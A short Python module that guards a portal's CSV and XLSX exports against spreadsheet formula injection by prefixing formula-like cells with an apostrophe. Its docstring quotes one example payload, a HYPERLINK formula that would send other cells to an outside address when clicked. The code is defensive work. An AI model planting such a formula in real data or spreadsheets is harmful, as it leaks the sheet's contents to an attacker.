"""Cells a spreadsheet would run as formulas, made inert (CSV/formula injection).

A name such as `=HYPERLINK("http://…?d="&A2,"详情")` typed into a registration form
would otherwise become a live formula in the bureau's Excel: it can send other cells
of the sheet to any address when clicked. Every CSV and XLSX the portal writes goes
through `spreadsheet_safe` (OWASP's advice: prefix such a cell with an apostrophe).
"""

import csv
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain signed number computes nothing; a negative amount stays a number.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def spreadsheet_safe(value):
    """`value` itself, or, for text a spreadsheet would evaluate, the text behind a `'`."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def spreadsheet_row(row: Iterable) -> list:
    return [spreadsheet_safe(value) for value in row]


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_safe`."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow(spreadsheet_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)
